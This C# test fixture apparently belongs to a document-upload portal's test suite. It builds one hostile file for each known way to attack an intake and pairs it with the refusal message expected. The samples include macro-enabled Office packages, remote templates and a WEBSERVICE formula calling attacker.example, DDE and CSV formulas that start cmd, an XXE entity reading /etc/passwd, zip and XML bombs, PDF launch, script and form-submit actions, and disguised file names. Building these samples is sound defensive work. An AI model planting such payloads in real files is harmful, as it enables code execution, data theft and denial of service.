using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using static MinutesPortal.TestCommon.PaperSamples;

namespace MinutesPortal.TestCommon;

/// <summary>A file that an intake must refuse.</summary>
/// <param name="Kind">What is wrong with it, in a few words.</param>
/// <param name="FileName">The name with which it is uploaded.</param>
/// <param name="Write">Writes its bytes.</param>
/// <param name="Refusal">A part of the sentence that refuses it.</param>
public sealed record HostilePaper(string Kind, string FileName, Action<Stream> Write, string Refusal)
{
    public override string ToString() => Kind;
}

/// <summary>One file for each way that we know to do harm with a paper.</summary>
public static class HostilePapers
{
    private const string Macros = "The file has macros.";
    private const string Damaged = "The file is damaged, or not what its name says.";
    private const string Polyglot = "The file is two types in one";
    private const string Bomb = "would unpack to far more than it seems";
    private const string Unknown = "has a part inside that the portal does not know";
    private const string Embedded = "The file has an embedded object";
    private const string TooComplex = "built in a way that Word, Excel and PowerPoint never do";
    private const string LoadingField = "The file has a field that loads something";

    private static readonly byte[] Zeros = new byte[1024 * 1024];

    public static IReadOnlyList<HostilePaper> All { get; } =
    [
        // Word, Excel and PowerPoint: what runs
        new("macros under another name", "Report.docx", Of(new PackageSample("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", $"<w:document xmlns:w=\"{W}\"/>")), Macros),
        new("macros in a workbook", "Budget.xlsx", Of(new PackageSample("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", $"<workbook xmlns=\"{X}\"/>")), Macros),
        new("macros in a presentation", "Talk.pptx", Of(new PackageSample("ppt/presentation.xml", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml", $"<p:presentation xmlns:p=\"{P}\"/>")), Macros),
        new("macros as a picture", "Report.docx", Of(Word().With("word/vbaProject.bin", "image/png", Png)), Macros),
        new("macros that only a relationship names", "Report.docx", Of(Word().WithRelationship("vbaProject", "media/image1.png", isExternal: false)), Macros),
        new("an old macro sheet", "Budget.xlsx", Of(Excel().With("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", "<xm:macrosheet xmlns:xm=\"m\"/>")), Macros),
        new("an embedded object", "Report.docx", Of(Word().With("word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", Zeros[..64])), Embedded),
        new("an embedded object in the text", "Report.docx", Of(Word("<w:p><w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\" ProgID=\"Package\"/></w:object></w:r></w:p>")), Embedded),
        new("a control", "Report.docx", Of(Word().With("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<ax/>")), Embedded),
        new("a template from the internet", "Report.docx", Of(Word().WithRelationship("attachedTemplate", "https://attacker.example/template.dotm")), "loads a template from elsewhere"),
        new("a template from another server", "Report.docx", Of(Word().WithRelationship("attachedTemplate", @"file:///\\attacker.example\share\template.dotm")), "loads a template from elsewhere"),
        new("a template from another server, by slashes", "Report.docx", Of(Word().WithRelationship("attachedTemplate", "//attacker.example/share/template.dotm")), "loads a template from elsewhere"),
        new("a picture from the internet", "Report.docx", Of(Word().WithRelationship("image", "http://attacker.example/pixel.png")), "loads something from elsewhere"),
        new("a link that starts a program", "Report.docx", Of(Word().WithRelationship("hyperlink", "ms-msdt:/id PCWDiagnostic")), "a link that starts a program"),
        new("a web page inside", "Report.docx", Of(Word("<w:altChunk/>").With("word/chunk.html", "text/html", "<script>alert(1)</script>")), "a web page or another document hidden inside"),
        new("a field that starts a program", "Report.docx", Of(Word(Field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"))), LoadingField),
        new("a field in pieces", "Report.docx", Of(Word(Field("D", "DEAU", "TO cmd.exe"))), LoadingField),
        new("a field that makes another", "Report.docx", Of(Word("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + Field("QUOTE 68 68 69") + "</w:p>")), LoadingField),
        new("a picture by field", "Report.docx", Of(Word("<w:p><w:fldSimple w:instr=\" INCLUDEPICTURE http://attacker.example/x.png \"/></w:p>")), LoadingField),
        new("a data connection", "Budget.xlsx", Of(Excel().With("xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml", "<connections/>")), "loads data or an add-in"),
        new("data from another program", "Budget.xlsx", Of(Excel().With("xl/externalLinks/externalLink1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml", $"<externalLink xmlns=\"{X}\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>")), "takes data from another program"),
        new("a formula that asks a server", "Budget.xlsx", Of(Excel("<row r=\"1\"><c r=\"A1\"><f>_xlfn.WEBSERVICE(\"http://attacker.example/\"&amp;B1)</f></c></row>")), "a formula that loads something"),
        new("a slide that starts a program", "Talk.pptx", Of(PowerPoint("<a:hlinkMouseOver action=\"ppaction://program\"/>")), "an action that starts a program"),
        new("a drawing with script", "Report.docx", Of(Word().With("word/media/image1.svg", "image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>1</script></svg>")), "a drawing (SVG) with script"),
        new("a sound", "Talk.pptx", Of(PowerPoint().With("ppt/media/media1.wav", "audio/wav", "RIFF")), Unknown),

        // Zip: what unpacks to too much, or to something else
        new("a zip bomb", "Report.docx", file => Word().WriteTo(file, zip => AddZeros(zip, "word/media/image1.png", megabytes: 400)), Bomb),
        new("a zip bomb in small parts", "Report.docx", file => Word().WriteTo(file, zip => Enumerable.Range(0, 600).ToList().ForEach(n => AddZeros(zip, $"word/media/image{n}.png", megabytes: 1))), Bomb),
        new("a part that lies about its size", "Report.docx", WriteLyingSize, Bomb),
        new("a zip in a zip", "Report.docx", Of(Word().With("word/media/image1.png", "image/png", ZipBomb())), Unknown),
        new("a bomb behind a chart", "Report.docx", file => Word().With("word/embeddings/book.xlsx", ExcelFile, ExcelBomb()).WriteTo(file), Bomb),
        new("a workbook in a workbook in a workbook", "Budget.xlsx", Of(Inside(Inside(Excel()))), "too deep or too large"),
        new("100,000 entries", "Report.docx", file => Word().WriteTo(file, zip => Enumerable.Range(0, 100_000).ToList().ForEach(n => zip.CreateEntry($"word/{n}.xml"))), "more than 5,000 parts"),
        new("two parts in one place", "Report.docx", Changed(Word().ToBytes(), (zip, directory) => zip.AsSpan(directory + 4 + zip.AsSpan(directory + 4).IndexOf("PK\u0001\u0002"u8) + 42, 4).Clear()), Polyglot),
        new("two parts of one name", "Report.docx", file => Word().WriteTo(file, zip => zip.CreateEntry("word/DOCUMENT.xml")), "two parts of the same name"),
        new("a path that leads out", "Report.docx", file => Word().WriteTo(file, zip => zip.CreateEntry("../../evil.xml")), Damaged),
        new("a zip with a password", "Report.docx", Changed(Word().ToBytes(), (zip, directory) => zip[directory + 8] |= 1), "protected with a password"),
        new("half a document", "Report.docx", file => file.Write(Word().ToBytes().AsSpan(0, 300)), Damaged),
        new("a zip behind other bytes", "Report.docx", file => { file.Write("GIF89a"u8); file.Write(Word().ToBytes()); }, "as PNG or JPEG only"),
        new("a zip before other bytes", "Report.docx", file => { file.Write(Word().ToBytes()); file.Write("<script>alert(1)</script>"u8); }, Damaged),
        new("a PDF in a zip", "Report.docx", file => new PackageSampleStart("%PDF-1.7 1 0 obj").WriteTo(file), Polyglot),
        new("any zip", "Papers.zip", file => file.Write(ZipBomb(megabytes: 0)), "The file is an archive."),

        // XML
        new("a billion laughs", "Report.docx", Of(WithXml("<!DOCTYPE w [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]><w>&c;</w>")), Damaged),
        new("an entity from a file", "Report.docx", Of(WithXml("<!DOCTYPE w [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><w>&a;</w>")), Damaged),
        new("100,000 levels of XML", "Report.docx", Of(WithXml(Repeated("<a>", 100_000))), TooComplex),
        new("an attribute of 10 MB", "Report.docx", Of(WithXml($"<a b=\"{Noise(10_000_000)}\"/>")), TooComplex),
        new("a million names", "Report.docx", file => WithXml($"<a>{string.Concat(Enumerable.Range(0, 1_000_000).Select(n => $"<n{n}/>"))}</a>").WriteTo(file), TooComplex),
        new("120 MB of XML", "Report.docx", file => WithXml("<a/>").WriteTo(file, zip => Enumerable.Range(0, 120).ToList().ForEach(n => AddNoise(zip, $"word/{n}.xml"))), "holds too much to be checked"),

        // Containers of old
        new("an encrypted document", "Report.docx", file => file.Write(Compound("EncryptedPackage")), "The file is protected with a password."),
        new("an old document", "Report.docx", file => file.Write(Compound("WordDocument")), "The file is of an old type"),
        new("an old workbook", "Budget.xlsx", file => file.Write(Compound("Workbook")), "The file is of an old type"),
        new("a web page as a document", "Report.docx", file => file.Write("<html><body>Hello"u8), "The file is a web page"),
        new("rich text", "Report.docx", file => file.Write("{\\rtf1\\objautlink}"u8), "The file is rich text"),

        // PDF
        new("a PDF with script", "Report.pdf", Of(Pdf(catalog: "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")), "The PDF has a script"),
        new("a PDF with script, spelt otherwise", "Report.pdf", Of(Pdf(catalog: "/OpenAction << /S /J#61va#53cript /JS (1) >>")), "The PDF has a script"),
        new("a PDF with packed script", "Report.pdf", Of(Pdf(more: ObjectStream("<< /S /JavaScript /JS (1) >>"))), "The PDF has a script"),
        new("a PDF with script packed unusually", "Report.pdf", Of(Pdf(more: ObjectStream("<< /S /JavaScript >>", "/Filter [/ASCIIHexDecode /FlateDecode]"))), "packed in an unusual way"),
        new("a PDF that starts a program", "Report.pdf", Of(Pdf(catalog: "/OpenAction 6 0 R", more: "<< /S /Launch /F (cmd.exe) >>")), "an action that starts a program"),
        new("a PDF that starts a program, spelt otherwise", "Report.pdf", Of(Pdf(catalog: "/OpenAction << /S /L#61unc#68 /F (cmd.exe) >>")), "an action that starts a program"),
        new("a PDF with an attachment, spelt otherwise", "Report.pdf", Of(Pdf(catalog: "/Names << /Embedded#46iles 6 0 R >>", more: "<< /Names [(a.exe) 7 0 R] >>")), "other files attached"),
        new("a PDF with an attachment", "Report.pdf", Of(Pdf(catalog: "/Names << /EmbeddedFiles 6 0 R >>", more: "<< /Names [(a.exe) 7 0 R] >>")), "other files attached"),
        new("a PDF that opens a page on the internet", "Report.pdf", Of(Pdf(catalog: "/OpenAction 6 0 R", more: "<< /S /URI /URI (http://attacker.example) >>")), "does something by itself"),
        new("a PDF that opens one, packed", "Report.pdf", Of(Pdf(catalog: "/OpenAction 9 0 R", more: ObjectStream("<< /S /URI /URI (http://attacker.example) >>"))), "does something by itself"),
        new("a PDF that acts when a page is seen", "Report.pdf", Of(Pdf(page: "/AA << /O << /S /GoToR /F (\\\\\\\\attacker.example\\\\a) >> >>")), "does something by itself"),
        new("a PDF with a password", "Report.pdf", Of(Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(Pdf(more: "<< /Filter /Standard /V 1 >>")).Replace("/Root 1 0 R", "/Root 1 0 R /Encrypt 6 0 R", StringComparison.Ordinal))), "The PDF is protected."),
        new("a PDF with a form that sends", "Report.pdf", Of(Pdf(more: "<< /S /SubmitForm /F (http://attacker.example) >>")), "sends or loads data"),
        new("a PDF bomb", "Report.pdf", file => file.Write(Pdf(more: ObjectStream(new string('a', 100_000_000)))), Bomb),
        new("100,000 packed objects", "Report.pdf", file => file.Write(Pdf(more: [.. Enumerable.Repeat(ObjectStream("<< >>"), 100_000)])), Bomb),
        new("a PDF with a zip after it", "Report.pdf", file => { file.Write(Pdf()); file.Write(ZipBomb(megabytes: 1)); }, Polyglot),
        new("a PDF with text after it", "Report.pdf", file => { file.Write(Pdf()); file.Write("<?php ?>"u8); }, Polyglot),
        new("a web page before a PDF", "Report.pdf", file => { file.Write("<html><script>1</script>\n"u8); file.Write(Pdf()); }, "The file is a web page"),
        new("a web page at the start of a PDF", "Report.pdf", Of(Pdf(catalog: "/X (<script>alert\\(1\\)</script>)")), Polyglot),
        new("half a PDF", "Report.pdf", file => file.Write(Pdf().AsSpan(0, 300)), Damaged),

        // Others under a good name
        new("a program", "Report.pdf", file => file.Write("MZ\u0090\0"u8), "The file is a program."),
        new("a web page", "Report.pdf", file => file.Write("<!DOCTYPE html><p>Hello"u8), "The file is a web page"),
        new("a web page as text", "Notes.txt", file => file.Write("Dear all,\n<SCRIPT src=//attacker.example>"u8), Polyglot),
        new("an SVG", "Map.png", file => file.Write("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>"u8), "The file is a web page, or another file with markup"),
        new("a picture with a zip after it", "Map.png", file => { file.Write(Png); file.Write(ZipBomb(megabytes: 1)); }, Polyglot),
        new("a picture of four gigabytes", "Map.png", Changed(Png, (png, _) => BinaryPrimitives.WriteInt32BigEndian(png.AsSpan(16), 1_000_000_000)), "more than 100 million points"),
        new("a photograph with a web page in it", "Map.jpg", file => { file.Write(Jpeg.AsSpan(0, 2)); file.Write([0xFF, 0xFE, 0, 10]); file.Write("<script>"u8); file.Write(Jpeg.AsSpan(2)); }, Polyglot),
        new("a CSV with a formula", "Budget.csv", file => file.Write("Name,Cost\nRoof,=cmd|' /C calc'!A0\n"u8), "The CSV file has a formula"),
        new("a CSV with a formula after a plus", "Budget.csv", file => file.Write("Name,Cost\nRoof,+cmd|' /C calc'!A0\n"u8), "The CSV file has a formula"),
        new("text that turns around", "Notes.txt", file => file.Write("Pay to \u202Eecila"u8), "change the direction of writing"),
        new("bytes", "Report.txt", file => file.Write([1, 2, 3, 4]), "does not publish this type of file"),
        new("nothing", "Report.pdf", _ => { }, "The file is empty."),
        new("too much", "Report.pdf", file => file.SetLength(101L * 1024 * 1024), "larger than 100 MB"),
        new("a name that turns around", "Report\u202Efdp.exe", Of(Pdf()), "Rename the file."),
        new("a name with a line in it", "Report\n.pdf", Of(Pdf()), "Rename the file."),
    ];

    /// <summary>Files that are built to cost much. They may be accepted, but soon.</summary>
    public static IReadOnlyList<HostilePaper> Costly { get; } =
    [
        new("79 MB of small elements", "Report.docx", file => WithXml("<a/>").WriteTo(file, zip => Enumerable.Range(0, 79).ToList().ForEach(n => AddElements(zip, $"word/{n}.xml"))), ""),
        new("a formula in a million pieces", "Budget.xlsx", Of(Excel($"<row r=\"1\"><c r=\"A1\"><f>{Repeated("1<!---->", 1_000_000)}</f></c></row>")), ""),
        new("200,000 folders of a computer", "Report.docx", Of(Word().With("word/_rels/other.xml.rels", "application/vnd.openxmlformats-package.relationships+xml", $"<r>{string.Concat(Enumerable.Range(0, 200_000).Select(n => $"<Relationship Type=\"/image\" TargetMode=\"External\" Target=\"C:\\{n}\"/>"))}</r>")), ""),
        new("100 MB of first objects", "Report.pdf", CostlyPdf("/First 1 "), ""),
        new("100 MB of producers", "Report.pdf", CostlyPdf("<</Producer()"), ""),
        new("100 MB of links", "Report.pdf", CostlyPdf("/S/URI "), ""),
        new("100 MB of slashes", "Report.pdf", CostlyPdf("/"), ""),
        new("100 MB of tags as text", "Notes.txt", file => Fill(file, "<s", 100_000_000), ""),
        new("100 MB of cells", "Budget.csv", file => Fill(file, ",+", 100_000_000), ""),
    ];

    private static string ExcelFile => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

    private static Action<Stream> Of(PackageSample package) => file => package.WriteTo(file);

    private static Action<Stream> Of(byte[] bytes) => file => file.Write(bytes);

    /// <summary>Changes bytes before they are written.</summary>
    /// <param name="change">Gets the bytes, and where the directory of a zip begins.</param>
    private static Action<Stream> Changed(byte[] bytes, Action<byte[], int> change) => file =>
    {
        byte[] copy = [.. bytes];
        change(copy, copy.AsSpan().IndexOf("PK\u0001\u0002"u8));
        file.Write(copy);
    };

    private static string Field(params string[] pieces) =>
        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
        + string.Concat(pieces.Select(piece => $"<w:r><w:instrText>{piece}</w:instrText></w:r>"))
        + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";

    private static PackageSample WithXml(string xml) => Word().With("word/other.xml", "application/xml", xml);

    private static PackageSample Inside(PackageSample inner) => Excel().With("xl/embeddings/book.xlsx", ExcelFile, inner.ToBytes());

    private static string Repeated(string text, int times) => string.Concat(Enumerable.Repeat(text, times));

    /// <summary>Letters that pack badly, so that no ratio gives them away.</summary>
    private static string Noise(int length) => string.Create(length, 1, (letters, _) =>
    {
        var random = new Random(1);
        for (var at = 0; at < letters.Length; at++)
        {
            letters[at] = (char)random.Next('a', 'z');
        }
    });

    private static void AddZeros(ZipArchive zip, string name, int megabytes)
    {
        using var entry = zip.CreateEntry(name, CompressionLevel.Optimal).Open();
        entry.Write(Png);
        for (var megabyte = 0; megabyte < megabytes; megabyte++)
        {
            entry.Write(Zeros);
        }
    }

    /// <summary>A megabyte of XML that packs by a factor of about 50.</summary>
    private static void AddNoise(ZipArchive zip, string name)
    {
        using var entry = zip.CreateEntry(name, CompressionLevel.Fastest).Open();
        var line = Encoding.UTF8.GetBytes($"<a>{Noise(1_000)}</a>");
        entry.Write("<x>"u8);
        for (var written = 0; written < 1_000_000; written += line.Length)
        {
            entry.Write(line);
        }

        entry.Write("</x>"u8);
    }

    private static void AddElements(ZipArchive zip, string name)
    {
        using var entry = zip.CreateEntry(name, CompressionLevel.Fastest).Open();
        entry.Write("<x>"u8);
        Fill(entry, string.Concat(Enumerable.Range(0, 10_000).Select(n => $"<a b=\"{n}\"/>")), 1_000_000);
        entry.Write("</x>"u8);
    }

    /// <summary>A PDF with 100 MB of the same text in one of its objects. Every 60 kB an object ends.</summary>
    private static Action<Stream> CostlyPdf(string text) => file =>
    {
        var pdf = Pdf();
        var end = pdf.AsSpan().IndexOf("xref\n"u8);
        file.Write(pdf.AsSpan(0, end));
        Fill(file, "9 0 obj " + Repeated(text, 60_000 / text.Length) + " endobj ", 99_000_000);
        file.Write(Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(pdf, end, pdf.Length - end).Replace($"startxref\n{end}", $"startxref\n{file.Length}", StringComparison.Ordinal)));
    };

    private static void Fill(Stream file, string text, int length)
    {
        var bytes = Encoding.UTF8.GetBytes(Repeated(text, Math.Max(1, 100_000 / text.Length)));
        for (var written = 0; written + bytes.Length <= length; written += bytes.Length)
        {
            file.Write(bytes);
        }
    }

    private static byte[] ZipBomb(int megabytes = 50)
    {
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            AddZeros(zip, "a", megabytes);
        }

        return bytes.ToArray();
    }

    private static byte[] ExcelBomb()
    {
        using var bytes = new MemoryStream();
        Excel().WriteTo(bytes, zip => AddZeros(zip, "xl/media/image1.png", megabytes: 200));
        return bytes.ToArray();
    }

    private static void WriteLyingSize(Stream file)
    {
        using var honest = new MemoryStream();
        Word().WriteTo(honest, zip => AddZeros(zip, "word/media/image1.png", megabytes: 300));
        var bytes = honest.ToArray();
        // The directory's last entry: 1,000 bytes, it says.
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(bytes.AsSpan().LastIndexOf("PK\u0001\u0002"u8) + 24), 1_000);
        file.Write(bytes);
    }

    private static byte[] Compound(string stream) =>
        [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[1016], .. Encoding.Unicode.GetBytes(stream), .. new byte[1024]];

    /// <summary>A package whose first entry is not packed.</summary>
    private sealed class PackageSampleStart(string start)
    {
        public void WriteTo(Stream file)
        {
            using var zip = new ZipArchive(file, ZipArchiveMode.Create, leaveOpen: true);
            using (var entry = zip.CreateEntry("a", CompressionLevel.NoCompression).Open())
            {
                entry.Write(Encoding.UTF8.GetBytes(start));
            }

            zip.CreateEntry("[Content_Types].xml");
        }
    }
}
